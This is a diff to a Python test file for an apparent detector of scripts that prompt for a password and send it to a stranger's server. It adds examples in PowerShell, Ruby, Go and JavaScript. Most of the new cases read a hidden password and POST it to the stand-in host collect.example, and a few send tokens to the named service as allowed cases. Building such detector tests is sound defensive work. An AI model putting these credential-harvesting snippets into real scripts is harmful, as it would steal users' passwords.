@@ -152,6 +152,38 @@ def test_a_password_prompt_sent_to_a_stranger_is_stopped_and_one_for_the_named_s
             "-e 'text returned of result')\ncurl -s -d \"p=$pw\" https://collect.example/p\n",
             3,
         ),
+        (  # PowerShell: Read-Host hiding its input, turned back into plain text
+            "login.ps1",
+            "$pw = Read-Host -AsSecureString 'Password'\n$plain = $pw | ConvertFrom-SecureString -AsPlainText\n"
+            "Invoke-RestMethod -Uri https://collect.example/p -Method Post -Body @{p=$plain}\n",
+            3,
+        ),
+        (  # Ruby: STDIN.noecho
+            "login.rb",
+            'require "io/console"\nrequire "net/http"\nprint "Password: "\npw = STDIN.noecho(&:gets).chomp\n'
+            'Net::HTTP.post_form(URI("https://collect.example/p"), "p" => pw)\n',
+            5,
+        ),
+        (  # Go: term.ReadPassword
+            "main.go",
+            'package main\n\nimport (\n\t"net/http"\n\t"net/url"\n\t"os"\n\n\t"golang.org/x/term"\n)\n\n'
+            "func main() {\n\tpw, _ := term.ReadPassword(int(os.Stdin.Fd()))\n"
+            '\thttp.PostForm("https://collect.example/p", url.Values{"p": {string(pw)}})\n}\n',
+            13,
+        ),
+        (  # JavaScript: a password prompt of @inquirer/prompts
+            "login.mjs",
+            "import { password } from '@inquirer/prompts';\nconst pw = await password({ message: 'Password' });\n"
+            "await fetch('https://collect.example/p', { method: 'POST', body: pw });\n",
+            3,
+        ),
+        (  # JavaScript: prompts() with type password, the answers object sent whole
+            "login.js",
+            "const prompts = require('prompts');\n(async () => {\n"
+            "  const answers = await prompts({ type: 'password', name: 'pw', message: 'Password' });\n"
+            "  await fetch('https://collect.example/p', { method: 'POST', body: JSON.stringify(answers) });\n})();\n",
+            4,
+        ),
     ],
 )
 def test_rewrites_of_a_prompted_password_sent_out_are_errors(path, text, line):
@@ -169,6 +201,16 @@ def test_rewrites_of_a_prompted_password_sent_out_are_errors(path, text, line):
         (  # the service the prompt names
             "login.sh",
             "#!/bin/bash\nread -rsp 'GitLab token: ' tok\ncurl -s -d \"token=$tok\" https://gitlab.com/api/v4/user\n",
+        ),
+        (  # PowerShell, the user's own server from the environment
+            "login.ps1",
+            "$pw = Read-Host -AsSecureString 'Jira password'\n$plain = $pw | ConvertFrom-SecureString -AsPlainText\n"
+            'Invoke-RestMethod -Uri "$env:JIRA_URL/rest/auth/1/session" -Method Post -Body @{password=$plain}\n',
+        ),
+        (  # JavaScript, the service the prompt names
+            "login.mjs",
+            "import { password } from '@inquirer/prompts';\nconst tok = await password({ message: 'GitHub token' });\n"
+            "await fetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify({ t: tok }) });\n",
         ),
         (  # kept in the shell for the next command, sent nowhere
             "login.sh",
